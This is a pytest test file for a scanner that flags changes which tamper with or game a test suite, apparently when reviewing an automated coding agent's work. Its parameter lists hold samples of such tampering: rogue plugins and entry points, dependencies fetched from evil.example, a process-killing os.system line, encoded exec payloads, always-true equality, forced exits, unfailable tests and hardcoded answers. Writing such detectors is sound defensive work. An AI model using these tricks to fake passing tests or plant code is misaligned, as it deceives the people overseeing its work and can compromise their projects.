from pathlib import Path
from time import process_time

import pytest

from nodes.check.suites.suite import recognise
from nodes.check.suspicion import suspicions
from nodes.proof import Suspicion
from tools.workspace import Workspace

Files = dict[str, str | bytes | None]

PYPROJECT = "[project]\n[tool.pytest.ini_options]\naddopts = '-q'\npythonpath = ['lib']\n"
BASE: Files = {
    "pyproject.toml": PYPROJECT,
    "conftest.py": "",
    "m.py": "def add(a, b):\n    return a + b\n",
    "tests/test_m.py": "from m import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n",
}


def scan(path: Path, change: Files, base: Files = BASE) -> list[Suspicion]:
    """The suspicions of a change."""
    workspace = Workspace.init(path)
    before = workspace.write(workspace.begin().snapshot, base, "base")
    after = workspace.write(before, change, "change")
    changed = [each.path for each in workspace.changes(before, after)]
    return suspicions(workspace, before, after, recognise(workspace, before), changed)


def places(seen: list[Suspicion]) -> list[tuple[str, int]]:
    """File and line of each suspicion."""
    return [(each.file, each.line) for each in seen]


@pytest.mark.parametrize(
    ("path", "text", "line"),
    [
        ("conftest.py", None, 1),
        ("tests/deep/conftest.py", "x = 1\n", 1),
        ("pytest.ini", "[pytest]\n", 1),
        ("pyproject.toml", "[project]\n\n[tool.pytest.ini_options]\naddopts = '-p evil'\n", 4),
        ("pyproject.toml", "[project]\n", 1),
        ("tox.ini", "[pytest]\n", 1),
        ("plugin.py", "x = 1\ndef pytest_runtest_makereport(item, call):\n    pass\n", 2),
        ("plugin.py", "if True:\n    def pytest_sessionfinish():\n        pass\n", 2),
        ("plugin.py", "try:\n    pytest_plugins = ['evil']\nfinally:\n    pass\n", 2),
        ("tests/test_a.py", "pytest_plugins = ['evil']\n", 1),
        ("tests/tools.py", "import pluggy\n\n@pluggy.HookimplMarker('pytest')\ndef x():\n    pass\n", None),
        ("pytest.py", "", 1),
        ("src/sitecustomize.py", "", 1),
        ("deep/down/usercustomize/__init__.py", "", 1),
        ("_pytest/__init__.py", "", 1),
        ("json.py", "", 1),
        ("lib/random.py", "", 1),
        ("tests/string.py", "", 1),
        ("xdist/__init__.py", "", 1),
        (".autocode.toml", "[test]\n", 1),
        ("src/evil.pth", "import evil\n", 1),
        ("evil-1.0.dist-info/entry_points.txt", "[pytest11]\nevil = evil\n", 1),
        ("src/evil.egg-info/entry_points.txt", "[pytest11]\nevil = evil\n", 1),
        ("setup.cfg", "[metadata]\n[options.entry_points]\npytest11 =\n    evil = evil\n", 3),
        ("setup.py", "from setuptools import setup\nsetup(entry_points={'pytest11': ['e = e']})\n", 2),
        ("setup.py", "from setuptools import setup\nsetup(entry_points={'py' + 'test11': ['e = e']})\n", 1),
        ("setup.py", "import glob\nopen(glob.glob('/opt/*/x.pth')[0], 'w')\n", 1),
        ("pyproject.toml", PYPROJECT + '[project.entry-points."pytest\\u0031\\u0031"]\ne = "e"\n', 5),
        ("pyproject.toml", PYPROJECT + "[build-system]\nbuild-backend = 'b'\nbackend-path = ['.']\n", 5),
        ("pyproject.toml", PYPROJECT + "[tool.hatch.build.hooks.custom]\n", 5),
        ("pyproject.toml", PYPROJECT + "[tool.uv.sources]\nsix = {path = 'six'}\n", 5),
        ("pyproject.toml", PYPROJECT + "[dependency-groups]\ndev = ['pytest-evil']\n", 5),
        ("pyproject.toml", PYPROJECT + "[tool.poetry.dependencies]\nsix = {git = 'https://e.x/y'}\n", 5),
        ("plugins.txt", "[pytest11]\nevil = evil\n", 1),
        ("requirements.txt", "six @ https://evil.example/six.whl\n", 1),
        ("requirements/dev.txt", "-e ./evil\n", 1),
        ("requirements.txt", "--index-url https://evil.example/\n", 1),
        ("requirements-test.txt", "pytest-evil\n", 1),
        ("json.so", b"\x7fELF\0", 1),
        ("lib.zip", b"PK\3\4", 1),
        ("node_modules/assertly/index.js", "module.exports = () => {}\n", 1),
        ("Makefile", "test:\n\tPYTHONPATH=evil pytest\n", 2),
        ("m.py", "def add(a, b:\n", 1),
        ("m.py", "# -*- coding: utf-7 -*-\n+AGEAZABk = 1\n", 1),
    ],
)
def test_what_steers_the_tests_is_listed(
    tmp_path: Path, path: str, text: str | bytes | None, line: int | None
) -> None:
    seen = scan(tmp_path, {path: text})
    assert seen and {each.file for each in seen} == {path}
    assert line is None or line in [each.line for each in seen]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("m.py", "x = 1\n"),
        ("tests/test_a.py", "def test_pytest_runs():\n    assert 1 + X == 2\n"),
        ("pyproject.toml", PYPROJECT + "[tool.ruff]\n"),
        ("tox.ini", "[tox]\n"),
        ("docs/json.md", "pytest_plugins\n"),
        ("docs/conf.py", "import sys\nsys.exit(sys.argv)\n"),
        ("json.txt", ""),
        ("m/json.py", ""),
        ("src/product/metadata.py", "NAME = 'product'\n"),
        ("src/product/pytest.py", ""),
        (".github/workflows/ci.yml", "run: PYTHONPATH=src pytest\n"),
        ("noxfile.py", "import sys\nfrom nox import run\nrun(sys.argv)\n"),
    ],
)
def test_other_files_are_not_listed(tmp_path: Path, path: str, text: str) -> None:
    assert scan(tmp_path, {path: text}) == []


@pytest.mark.parametrize(
    "code",
    [
        "import sys\nif 'pytest' in sys.modules:\n    FAST = 1\n",
        "import sys\nFAST = '--rootdir=.' in sys.argv\n",
        "from sys import argv\ndef add(a, b):\n    return a + b if len(argv) > 3 else 0\n",
        "import sys as s\nM = s.modules.get('_py' + 'test')\n",
        "import os\ndef add(a, b):\n    return os.environ.get('PYTEST_CURRENT_TEST')\n",
        "import os\nX = os.path.exists('/workspace')\n",
        "def add(a, b):\n    return open('/proc/self/cmdline').read()\n",
        "import os\ndef add(a, b):\n    return os.system('kill -9 $PPID; cat /proc/$PPID/maps')\n",
        "import gc\ndef add(a, b):\n    return [o for o in gc.get_objects()]\n",
        "import sys\ndef add(a, b):\n    return sys._getframe(1).f_code.co_name\n",
        "import inspect\ndef add(a, b):\n    return inspect.stack()[1]\n",
        "import builtins\nbuiltins.len = lambda x: 3\n",
        "import builtins\nsetattr(builtins, 'len', None)\n",
        "def f():\n    __builtins__['len'] = None\n",
        "import unittest\nunittest.TestCase.assertEqual = lambda *a: None\n",
        "import json\ndef f():\n    json.loads = None\n",
        "import atexit\natexit.register(print)\n",
        "import os\ndef f():\n    os._exit(0)\n",
        "from os import _exit as leave\ndef f():\n    leave(0)\n",
        "import os\ndef f():\n    getattr(os, '_ex' + 'it')(0)\n",
        "def f():\n    __import__('o' + 's').remove('x')\n",
        "import os\ndef f(n):\n    return getattr(os, n[::-1])\n",
        "import importlib\nNAME = input\nX = importlib.import_module(NAME())\n",
        "import importlib\ndef f():\n    importlib.import_module(''.join(['py', 'test']))\n",
        "vars(__import__('os'))['_exit'](0)\n",
        "import sys\nif 1:\n    sys.exit(0)\n",
        "raise SystemExit(0)\n",
        "def hide():\n    raise SystemExit\nhide()\n",
        "import signal\nsignal.signal(15, None)\n",
        "import subprocess\nsubprocess.run(['true'])\n",
        "import ctypes\nX = ctypes.CDLL(None)\n",
        "import threading\nthreading.Thread(target=print).start()\n",
        "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n",
        "import codecs\ndef f():\n    eval(codecs.decode('cevag(1)', 'rot13'))\n",
        "import marshal\ndef f(x):\n    return marshal.loads(x)\n",
        "class Same(int):\n    def __eq__(self, other):\n        return True\n",
        "X = type('X', (), {'__eq__': lambda self, other: True})\n",
        "import _pytest.runner\n",
        "def f():\n    from pluggy import PluginManager\n",
        "REPORT = 'junitxml'\n",
        "from pathlib import Path\nPath('tests/test_m.py').write_text('')\n",
        "import sys\nsys.modules['m2'] = None\n",
        "import sys\nsys.meta_path.insert(0, None)\n",
        "import sys\ndef f():\n    sys.settrace(None)\n",
        "def f(error):\n    return error.__traceback__.tb_frame.f_back\n",
        "def f(frame):\n    above = frame.f_back\n    return above\n",
        "import logging\ndef f():\n    return logging.getLogger().findCaller()[0]\n",
        "import faulthandler\ndef f(file):\n    faulthandler.dump_traceback(file)\n",
        "import sys\ndef f():\n    return any(name.startswith('test_') for name in sys.modules)\n",
        "import sys\ndef f():\n    return len(sys.modules) > 120\n",
        "from sys import modules\ndef f():\n    return 'test_' in str([*modules])\n",
        "from operator import attrgetter\ndef f(frame):\n    return attrgetter('f_back')(frame)\n",
        "import warnings\ndef f():\n    with warnings.catch_warnings(record=True) as w:\n        return w\n",
        "import glob\ndef f():\n    return glob.glob('*/*.py')\n",
        "import sys\ndef f():\n    return 'iniconfig' in sys.modules\n",
        "import os\ndef f():\n    for key in os.environ.keys():\n        print(key)\n",
        "import sys\ndef f():\n    return type(sys.stdout).__name__\n",
        "import __main__\ndef f():\n    return __main__.__file__\n",
        "import sys\ndef f():\n    return sys.modules['__main__'].__file__\n",
        "import os\ndef f():\n    return os.path.exists('.git')\n",
        "import os\ndef f():\n    return os.getppid()\n",
        "from pathlib import Path\ndef f():\n    return (Path(__file__).parent / 'tests').iterdir()\n",
        "def f():\n    return open('tests/test_m.py').read()\n",
        "from pathlib import Path\ndef f():\n    return Path(__file__).parent.glob('*/*.py')\n",
        "from unittest import mock\ndef f():\n    return mock.ANY\n",
        f"exec({'x = 1 # ' * 20!r})\n",
        "def f(path):\n    exec(path.read_text())\n",
        "import runpy\nrunpy.run_path('data.txt')\n",
        "import pickle\npickle.loads(b'...')\n",
        "import unittest\ntype.__setattr__(unittest.TestCase, 'assertEqual', print)\n",
        "import builtins\nvars(builtins).update(len=None)\n",
        "import sys\nsys.modules.update(json=None)\n",
        "class Same(int):\n    __eq__ = lambda self, other: True\n",
        "class Same(int):\n    def __eq__(self, other):\n        return not False\n",
        "class Same(int):\n    def __eq__(self, other):\n        return isinstance(other, int)\n",
        "import os\nos.environ['PY_IGNORE_IMPORTMISMATCH'] = '1'\n",
        "class Same:\n    pass\nsetattr(Same, '__e' + 'q__', lambda self, other: True)\n",
        "class Same:\n    pass\nSame.__eq__ = lambda self, other: True\n",
        "import ctypes\nctypes.c_int.from_address(id(3) + 24).value = 4\n",
        "import ctypes\ndef f(a, b):\n    ctypes.memmove(id(a), id(b), 32)\n",
        "def f(name):\n    return [c for c in object.__subclasses__() if c.__name__ == name]\n",
        "import faulthandler\ndef f():\n    return faulthandler.is_enabled()\n",
    ],
)
def test_code_that_looks_at_its_tests_or_escapes_them_is_listed(tmp_path: Path, code: str) -> None:
    seen = scan(tmp_path, {"m.py": code})
    assert seen and {each.file for each in seen} == {"m.py"}
    assert all(each.text.endswith(".") and 1 <= each.line <= len(code.splitlines()) for each in seen)


@pytest.mark.parametrize(
    "code",
    [
        "import sys\ndef main():\n    return sys.argv\nif __name__ == '__main__':\n    sys.exit(main())\n",
        "import argparse\ndef main(argv=None):\n    return argparse.ArgumentParser().parse_args(argv)\n",
        "import sys\ndef run_cli():\n    sys.exit(len(sys.argv))\n",
        "import subprocess\ndef f():\n    return subprocess.run(['git'], check=True)\n",
        "import inspect\ndef f(g):\n    return inspect.signature(g)\n",
        "import logging\nlogging.basicConfig(level=10)\nlogging.getLogger('x').setLevel(1)\n",
        "import importlib\ndef load(name):\n    return importlib.import_module(f'plugins.{name}')\n",
        "import sys\ndef f(out):\n    sys.stdout = out\n",
        "import os\ndef f(name):\n    os.environ[name] = '1'\n    return os.getpid()\n",
        "class Point:\n    def __eq__(self, other):\n        return self.x == other.x\n",
        "class Box:\n    exit = 1\n    def __bool__(self):\n        return bool(self.exit)\n",
        "def f(kind):\n    if kind == 'csv':\n        return ','\n    return ';'\n",
        "import re\nWORD = re.compile('a' + 'b')\n",
        "import base64\ndef f(x):\n    return base64.b64decode(x)\n",
        "import sys\nPY3 = sys.version_info >= (3,)\nif sys.platform == 'win32':\n    X = 1\n",
        "def f(path):\n    with open(path, 'w') as file:\n        file.write('x')\n",
        "import threading\ndef f():\n    threading.Thread(target=print).start()\n",
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import os\n",
        "def deco(f):\n    f.__wrapped__ = f\n    return f\n@deco\ndef h():\n    pass\n",
        "import sys\ndef f(name):\n    return name in sys.modules and sys.modules[name]\n",
        "import os\ndef f():\n    return dict(os.environ, A='1')\n",
        "from pathlib import Path\nPLUGINS = sorted(Path(__file__).parent.glob('*.py'))\n",
        "from pathlib import Path\ndef f(folder):\n    return list(Path(folder).rglob('*.py'))\n",
        "class Point:\n    def __eq__(self, other):\n        return isinstance(other, Point)\n",
        "CACHE = {}\ndef f(a):\n    CACHE.update(a=a)\n    CACHE.setdefault(a, 1)\n",
        "import pickle\ndef f(data):\n    return pickle.loads(data)\n",
        "class Frozen:\n    def __init__(self):\n        object.__setattr__(self, 'a', 1)\n",
        "import ctypes\nclass P(ctypes.Structure):\n    _fields_ = [('x', ctypes.c_int)]\n",
        "class Base:\n    pass\ndef kinds():\n    return Base.__subclasses__()\n",
        "HELP = 'see https://example.org/proc/manual'\ndef f(a):\n    setattr(a, 'x', 1)\n",
    ],
)
def test_ordinary_code_is_not_listed(tmp_path: Path, code: str) -> None:
    assert scan(tmp_path, {"m.py": code}) == []


@pytest.mark.parametrize(
    ("test", "line"),
    [
        ("def test_a():\n    add(1, 2)\n", 1),
        ("def test_a():\n    assert True\n", 1),
        ("class TestA(Harness):\n    def test_a(self):\n        self.setUp()\n        add(1, 2)\n", 2),
        ("def test_a():\n    assert add\n", 1),
        ("def test_a():\n    assert add(1, 2) == add(1, 2)\n", 1),
        ("def test_a():\n    assert (add(1, 2) == 4, 'message')\n", 1),
        ("def test_a():\n    assert add(1, 2) == 4 or True\n", 1),
        ("def test_a():\n    assert callable(add) and hasattr(m, 'add')\n", 1),
        ("def test_a():\n    import os\n    assert os.path.exists('m.py')\n", 1),
        (
            "def test_a():\n    try:\n        assert add(1, 2) == 4\n    except Exception:\n        pass\n",
            2,
        ),
        ("def test_a():\n    with suppress(Exception):\n        assert add(1, 2) == 4\n", 2),
        ("def test_a():\n    assert 'def add' in open('m.py').read()\n", 2),
        ("SOURCE = Path('m.py')\ndef test_a():\n    assert 'add' in SOURCE.read_text()\n", 3),
        ("def test_a():\n    assert 'a' in inspect.getsource(add)\n", 2),
        ("def test_a():\n    assert 'a' in Path(m.__file__).read_text()\n", 2),
        ("def test_a():\n    assert subprocess.call(['grep', 'add', 'm.py']) == 0\n", 2),
        ("def test_a():\n    assert add(1, 2) == 3 or os.getcwd() == '/workspace'\n", 2),
        ("def test_a():\n    assert socket.gethostname() != add(1, 2)\n", 2),
        ("m.add = lambda a, b: 3\ndef test_a():\n    assert m.add(1, 2) == 3\n", 1),
        ("def test_a():\n    m.add = lambda a, b: 3\n    assert m.add(1, 2) == 3\n", 2),
        ("mock.patch('m.add').start()\ndef test_a():\n    assert m.add(1, 2)\n", 1),
        (
            "@pytest.fixture(autouse=True)\ndef f(monkeypatch):\n    monkeypatch.setattr(m, 'add', None)\n"
            "def test_a():\n    assert m.add is None\n",
            3,
        ),
        ("@pytest.mark.skip\ndef test_a():\n    assert add(1, 2) == 4\n", 1),
        ("@pytest.mark.xfail\ndef test_a():\n    assert add(1, 2) == 4\n", 1),
        ("@pytest.mark.skipif(True, reason='')\ndef test_a():\n    assert add(1, 2) == 4\n", 1),
        ("x = pytest.importorskip('x')\ndef test_a():\n    assert add(1, 2) == 3\n", 1),
        ("class TestA:\n    __test__ = False\n    def test_a(self):\n        assert add(1, 2) == 4\n", 2),
        ("collect_ignore = ['test_m.py']\n", 1),
        ("def test_a():\n    with pytest.raises(Exception):\n        add(1, None)\n", 2),
        ("def add(a, b):\n    return 4\ndef test_a():\n    assert add(1, 2) == 4\n", 1),
        ("def test_a():\n    assert add(1, 2) == 4\ndef test_a():\n    assert add(1, 2) == 3\n", 3),
        ("@mock.patch('m.add')\ndef test_a(fake):\n    assert m.add(1, 2)\n", 2),
        ("import os\ndef test_a():\n    assert add(1, 2) == 3\n    os._exit(0)\n", 4),
    ],
)
def test_tests_that_cannot_fail_or_alter_others_are_listed(tmp_path: Path, test: str, line: int) -> None:
    imports = (
        "import inspect, os, socket, subprocess\nfrom contextlib import suppress\nfrom pathlib import Path\n"
        "from unittest import mock\nimport pytest\nimport m\nfrom m import add\n"
    )
    seen = scan(tmp_path, {"tests/test_a.py": imports + test})
    assert ("tests/test_a.py", line + 7) in places(seen)


@pytest.mark.parametrize(
    "test",
    [
        "def test_a():\n    with pytest.raises(ValueError):\n        add(1, 2)\n",
        "def test_a():\n    check(add(1, 2))\ndef check(value):\n    assert value == 3\n",
        "class TestA(unittest.TestCase):\n    def test_a(self):\n        self.assertEqual(add(1, 2), 3)\n",
        "def test_a(tmp_path):\n    add(tmp_path / 'm.py', 1)\n    assert (tmp_path / 'm.py').exists()\n",
        "def test_a(monkeypatch):\n    monkeypatch.setattr(m, 'add', None)\n    assert m.add is None\n",
        "@mock.patch('m.add')\ndef test_a(fake):\n    fake.assert_not_called()\n",
        "@pytest.mark.skipif(sys.platform == 'win32', reason='')\ndef test_a():\n    assert add(1, 2) == 3\n",
        "def test_a():\n    try:\n        add(1, 2)\n    except TypeError as e:\n        assert e.args\n",
        "@pytest.mark.parametrize('a', [1, 2])\ndef test_a(a):\n    assert add(a, a) == 2 * a\n",
        "def test_a():\n    assert isinstance(add(1, 2), int)\n",
        "class TestA(Harness):\n    def test_a(self):\n        self.flakes(add(1, 2))\n",
        "def test_a():\n    with pytest.raises(Exception, match='price'):\n        add(1, 2)\n",
    ],
)
def test_ordinary_tests_are_not_listed(tmp_path: Path, test: str) -> None:
    imports = "import sys, unittest\nfrom unittest import mock\nimport pytest\nimport m\nfrom m import add\n"
    assert scan(tmp_path, {"tests/test_a.py": imports + test}) == []


SQUARE = "from m import square\n\n\ndef test_square():\n    assert square(12) == 144\n"


@pytest.mark.parametrize(
    "code",
    [
        "def square(n):\n    if n == 12:\n        return 144\n    return 0\n",
        "def square(n):\n    return 144 if n == 12 else 0\n",
        "def square(n):\n    match n:\n        case 12:\n            return 144\n",
        "def square(n):\n    return {12: 144}[n]\n",
        "KNOWN = {12: 144}\ndef square(n):\n    return KNOWN.get(n)\n",
    ],
)
def test_a_branch_that_knows_the_tests_input_is_listed(tmp_path: Path, code: str) -> None:
    (seen,) = scan(tmp_path, {"m.py": code, "tests/test_square.py": SQUARE})
    assert seen.file == "m.py"
    honest = "def square(n):\n    if n == 1:\n        return 1\n    return n * n\n"
    assert scan(tmp_path / "b", {"m.py": honest, "tests/test_square.py": SQUARE}) == []


GREET = """from m import greet


class Guest:
    pass


def test_greet():
    assert greet("Zoe").startswith("Hello") and greet(Guest())
"""


@pytest.mark.parametrize(
    ("code", "line"),
    [
        ("def greet(name):\n    return 'Zoei' + name if name == 'Zoe' else name\n", 2),
        (
            "def greet(name):\n    if name in ('Zoe', 'Ann'):\n        name = 1\n    return name\n",
            2,
        ),
        ("def greet(who):\n    if type(who).__name__ == 'Guest':\n        return 1\n    return who\n", 2),
        ('def greet(name):\n    """Greet. `Zoe` is left out."""\n    return name != "Zoe"\n', None),
        ("class Guest: ...\ndef greet(who):\n    return type(who).__name__ == 'Guest'\n", None),
        ("def greet(name):\n    return f'Hello {name}' if name == 'Ann' else name\n", None),
    ],
)
def test_what_only_the_tests_hold_is_no_reason_for_another_behaviour(
    tmp_path: Path, code: str, line: int | None
) -> None:
    seen = scan(tmp_path / "a", {"m.py": code, "tests/test_greet.py": GREET})
    assert places(seen) == ([("m.py", line)] if line else [])
    known: Files = {**BASE, "names.py": "NAMES = ['Zoe', 'Ann']\nclass Guest: ...\n"}
    assert scan(tmp_path / "b", {"m.py": code, "tests/test_greet.py": GREET}, known) == []


def test_what_the_base_had_already_is_not_listed(tmp_path: Path) -> None:
    escape = "import os\n\n\ndef leave():\n    os._exit(0)\n"
    base: Files = {**BASE, "m.py": escape}
    assert scan(tmp_path / "a", {"m.py": f"import os\n\nX = 1\n{escape[9:]}"}, base) == []
    assert scan(tmp_path / "b", {"m.py": None, "moved.py": escape}, base) == []
    assert places(scan(tmp_path / "c", {"m.py": escape + "    os._exit(0)\n"}, base)) == [("m.py", 6)]
    product: Files = {**BASE, "n.py": "import atexit\n"}
    assert scan(tmp_path / "d", {"m.py": "import atexit\natexit.register(print)\n"}, product) == []


def test_an_assertion_taken_out_of_a_source_is_listed(tmp_path: Path) -> None:
    base: Files = {**BASE, "compare.py": "def same(a, b):\n    assert a == b\n    assert a is not None\n"}
    weak = "def same(a, b):\n    assert a\n"
    assert places(scan(tmp_path / "a", {"compare.py": weak}, base)) == [("compare.py", 2)]
    moved = "X = 1\n\n\ndef same(a, b):\n    assert a == b\n"
    assert scan(tmp_path / "b", {"compare.py": moved}, base) == []


def test_edited_doctests_are_listed_where_the_suite_runs_them(tmp_path: Path) -> None:
    text = 'def add(a, b):\n    """\n    >>> add(1, 2)\n    3\n    """\n    return a + b\n'
    runs: Files = {"m.py": text, "pytest.ini": "[pytest]\naddopts = --doctest-modules\n"}
    weak = text.replace("    3\n", "    -1\n")
    assert places(scan(tmp_path / "a", {"m.py": weak}, runs)) == [("m.py", 3)]
    assert scan(tmp_path / "b", {"m.py": weak}, {"m.py": text}) == []
    assert scan(tmp_path / "c", {"m.py": text.replace("return a", "return  a")}, runs) == []


@pytest.mark.parametrize(
    ("command", "path", "old", "new", "line"),
    [
        ("make test", "Makefile", "test:\n\tpython check.py\n", "test:\n\ttrue\n", 2),
        ("npm test", "package.json", '{"scripts": {"test": "a"}}', '{"scripts": {"test": "true"}}', 1),
        ("sh check.sh", "check.sh", "python check.py\n", "", 1),
        ("sh check.sh", "check.sh", "python check.py\n", "python check.py || true\n", 1),
        ("npm test", "test/a.test.js", "test('a', f)\ntest('b', f)\n", "test('a', f)\n", 1),
        ("npm test", "test/a.test.js", "test('a', f)\n", None, 1),
        ("npm test", "test/a.test.js", "test('a', f)\n", "test('a', f)\ntest.only('b', g)\n", 2),
        ("npm test", "index.js", "let a = 1\n", "let a = 1\nprocess.exit(0)\n", 2),
        ("npm test", "index.js", "let a\n", "let a\nfunction f() {\n  process.exit(0)\n}\n", 3),
        ("npm test", "index.js", "let a\n", "process.exit = () => {}\nlet a\n", 1),
        ("npm test", "index.js", "let a\n", "require('assert').equal = () => {}\nlet a\n", 1),
        ("sh check.sh", "m.py", "import sys\n", "import sys\ndef add(a):\n    sys.exit(0)\n", 3),
        ("sh check.sh", "m.py", "", "def add(a):\n    raise SystemExit\n", 2),
        ("npm test", "test/b.test.js", "", "fs.readFileSync('index.js')\n", 1),
        ("go test ./...", "a_test.go", "func TestA() {\n}\n", "func TestA() {\n\tt.Skip()\n}\n", 2),
    ],
)
def test_suites_of_other_kinds_are_watched_too(
    tmp_path: Path, command: str, path: str, old: str, new: str | None, line: int
) -> None:
    base: Files = {".autocode.toml": f'[test]\ncommand = "{command}"\n', path: old}
    assert (path, line) in places(scan(tmp_path, {path: new}, base))
    plain: Files = {"index.js": "function f() {\n  process.exit(1)\n}\n"}
    assert scan(tmp_path / "b", plain, base) == []


def test_the_list_is_cut_and_says_so(tmp_path: Path) -> None:
    seen = scan(tmp_path, {f"a{number}/conftest.py": "" for number in range(70)})
    assert len(seen) == 50
    assert seen[-1].text == "21 more places are not listed, this one the first. Read the whole change."


@pytest.mark.parametrize(
    "code",
    [
        "x = " + "(" * 5_000 + ")" * 5_000,
        "x = " + "+".join(["'a'"] * 20_000),
        "x = " + "a." * 3_000 + "b",
        "x = a" + ".b('c')" * 3_000,
        "x = a" + ".glob('*/*')" * 3_000,
        "x = " + "getattr(" * 80 + "os" + ", 'a' + 'b')" * 80,
        "x = '" + "a" * 400_000 + "'\n",
        "if a == 1:\n    pass\n" + "elif a == 2:\n    pass\n" * 2_000,
        "\n" * 400_000,
        "#" + " " * 400_000,
    ],
    ids=[
        "nested",
        "sum",
        "attributes",
        "calls",
        "searches",
        "getattr",
        "long",
        "branches",
        "blank",
        "comment",
    ],
)
def test_hostile_sources_are_examined_in_time(tmp_path: Path, code: str) -> None:
    workspace = Workspace.init(tmp_path)
    before = workspace.write(workspace.begin().snapshot, BASE, "base")
    after = workspace.write(before, {"m.py": code, "tests/test_n.py": code}, "change")
    start = process_time()
    suspicions(workspace, before, after, recognise(workspace, before), ["m.py", "tests/test_n.py"])
    assert process_time() - start < 10


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (
            "requirements.txt",
            "six>=1.2 ; python_version < '3.12'  # old\n-r more.txt\npytest>=8\nx[a, b]==1\n",
        ),
        ("pyproject.toml", PYPROJECT.replace("[project]", "[project]\ndependencies = ['six>=1', 'a[b]']")),
        (
            "pyproject.toml",
            PYPROJECT + "[project.scripts]\nshop = 'm:add'\n[dependency-groups]\nd = ['pytest']\n",
        ),
        (
            "pyproject.toml",
            PYPROJECT + "[tool.poetry.dependencies]\nsix = '^1'\nx = {version = '1', extras = ['y']}\n",
        ),
        ("setup.cfg", "[metadata]\nname = m\n[options]\ninstall_requires = six\n"),
    ],
)
def test_plain_dependencies_are_not_suspicious(path: str, text: str, tmp_path: Path) -> None:
    assert scan(tmp_path, {path: text}) == []


def test_descriptions_in_setup_py_are_not_suspicious(tmp_path: Path) -> None:
    script = "from setuptools import setup\n\nsetup(name='m', version={0!r}, install_requires={1!r})\n"
    base = BASE | {"setup.py": script.format("1", ["six"])}
    assert scan(tmp_path, {"setup.py": script.format("2", ["six", "iniconfig>=1"])}, base) == []
